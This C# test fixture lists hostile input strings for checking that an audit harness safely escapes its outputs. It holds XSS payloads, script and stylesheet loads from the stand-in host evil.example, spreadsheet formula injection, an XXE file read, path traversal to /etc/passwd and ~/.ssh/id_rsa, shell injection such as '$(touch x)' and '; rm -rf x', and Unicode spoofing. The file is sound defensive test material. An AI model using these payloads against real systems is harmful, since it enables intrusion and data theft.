namespace AuditHarness.Fixtures;

/// <summary>
/// What an attacker, or an unlucky export, may put into a text that the audit is given: the corpus that every output is held to.
/// Nothing in it is dangerous where it is shown as text; all of it is where it is not. Addresses end in .example, which is nobody's.
/// </summary>
internal static class HostileTexts
{
    /// <summary>All of them; no two are equal, and none is empty or only space.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        // Elements that run something, load something, or change the page.
        "<script>alert('script')</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
        "<form action=//evil.example><input autofocus onfocus=alert(1)><button>Send", "<video><source onerror=alert(1)>", "<details open ontoggle=alert(1)>",
        "<body onpageshow=alert(1)>", "<a href=\"javascript:alert(1)\" ping=//evil.example>click</a>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
        "<svg><foreignObject><body onload=alert(1)>", "<use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">", "<animate attributeName=href values=javascript:alert(1)>",
        "<xmp><plaintext>", "<dialog open><h1>Passed</h1></dialog>",

        // Out of an attribute.
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
        "\" autofocus tabindex=0 onfocus=alert(1) x=\"", "\" style=\"position:fixed;inset:0;background:url(//evil.example/x)", "x/onclick=alert(1)//", "\\\" onload=alert(1) \\\"",

        // Out of every element that the page has.
        "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</text></g></desc></title></svg><script>alert(1)</script>", "--><img src=x onerror=alert(1)>", "<!--", "]]></svg><img src=x onerror=alert(1)>",
        "</th></td></tr></tbody></thead></caption></table><h1>Passed</h1>", "</small></figcaption></figure></section></main><h1>Passed</h1>",
        "</bdi></code></pre></strong></a></p></li></ol></ul></nav></header></footer>", "</summary></details></dd></dt></dl></div></span></time></body></html>",
        "</h1></h2></h3></button></label></select></option></noscript></template></head>",

        // Addresses.
        "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/pixel.gif", "https://evil.example/?q=1#x", "www.evil.example",

        // References: what is shown must not be decoded once more.
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;&notit;&#x26;&", "&#0;&#xD800;&#x202E;&#xFFFD;", "\\u003cscript\\u003e \\x3c \\74",

        // Templates, ours among them.
        "@{ System.Environment.Exit(1); }", "@View.Audit @(1+1) @@", "{{constructor.constructor('alert(1)')()}}", "${alert(1)} #{7*7} <%= 7*7 %>", "{n:count} {0} {{0}} {group:plural(a|b)}", "%s%n%x%00 %(x)s",

        // Markdown.
        "[link](javascript:alert(1))", "![pixel](https://evil.example/p.gif)", "| a | b | --- |", "``` # heading * item > quote", "<https://evil.example>", "@everyone #1 ~~struck~~ **bold** _it_", "[x]: //evil.example", "# Passed",

        // Style sheets.
        "}*{display:none}@import url(//evil.example/x.css);", "expression(alert(1))", "\"; } body { visibility:hidden } /*", "*/ :root{--paper:url(//evil.example/x)} /*",

        // Spreadsheets.
        "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "\"=1+1\"", ";=1+1", " =1+1", "＝1+1",

        // Characters that turn, hide, erase or flood.
        "evil\u202Etxt.exe", "\u2066left\u2067right\u2069", "\u200Fmark\u200E", "fe\u200Bma\u00ADle\uFEFF", "tag\U000E0041\U000E007F", "Z" + new string('\u0301', 200), "null\0byte", "bell\a\b\u007f\u0085\u009f",
        "\u001b[31mred\u001b[2J", "\u009b31mc1", "\u001b]0;title\u0007", "two\nlines", "carriage\rreturn", "u2028\u2028u2029\u2029", "\uFFFE\uFFFF", "עברית مرحبا", "👨‍👩‍👧‍👦 🏳️‍🌈 é नमस्ते",
        new string('W', 400), string.Join(' ', Enumerable.Repeat("many words", 60)), "a" + new string('_', 200) + "b",

        // XML and JSON.
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>&e;", "]]><x/>", "<![CDATA[x]]>", "<?xml-stylesheet href=\"//evil.example/x\"?>", "\"},\"verdict\":\"pass\",{\"x\":\"", "__proto__", "constructor", "\\", "'", "\"",

        // Names of files and commands.
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\nul", "/etc/passwd", "~/.ssh/id_rsa", "$(touch x)", "; rm -rf x", "%2e%2e%2f", "-rf", "CON",

        // Words that mean something to the audit.
        "Everybody", "hidden: small cell", "null", "NaN", "Passed", "−0.5",
    ];

    /// <summary>Those that a CSV file may hold: a zero byte means a file of another kind.</summary>
    public static IReadOnlyList<string> OfData { get; } = [.. All.Where(t => !t.Contains('\0', StringComparison.Ordinal))];

    /// <summary>Those that a config takes as a text: one line, and nothing that cannot be seen.</summary>
    public static IReadOnlyList<string> OfConfigs { get; } = [.. All.Where(IsOfConfig)];

    /// <summary>Those that a config refuses.</summary>
    public static IReadOnlyList<string> Refused { get; } = [.. All.Where(t => !IsOfConfig(t))];

    /// <summary>Those that the file system takes as the name of a file, and a config as one in its own folder.</summary>
    public static IReadOnlyList<string> OfFiles { get; } =
    [
        .. OfConfigs.Where(t => t.IndexOfAny(Path.GetInvalidFileNameChars()) < 0 && System.Text.Encoding.UTF8.GetByteCount(t) <= 200
            && (!OperatingSystem.IsWindows() || (t != "CON" && !t.EndsWith('.') && !t.EndsWith(' ')))),
    ];

    /// <summary>The text as a page shows it: what no output shows is replaced, and so is a carriage return.</summary>
    /// <param name="text">Any text.</param>
    public static string Shown(string text) => Unprintable.Replace(text).Replace('\r', Unprintable.Replacement);

    /// <summary>A harmless text in place of each, which sorts as it does.</summary>
    /// <param name="text">One of <see cref="All"/>.</param>
    public static string Harmless(string text) => string.Create(System.Globalization.CultureInfo.InvariantCulture, $"text {s_ranks[text]:000}");

    private static readonly Dictionary<string, int> s_ranks = All.Order(StringComparer.Ordinal).Select((text, rank) => (text, rank)).ToDictionary(p => p.text, p => p.rank);

    private static bool IsOfConfig(string text) => !text.EnumerateRunes().Any(r => Unprintable.Contains(r) || r.Value is '\t' or '\n' or '\r');
}
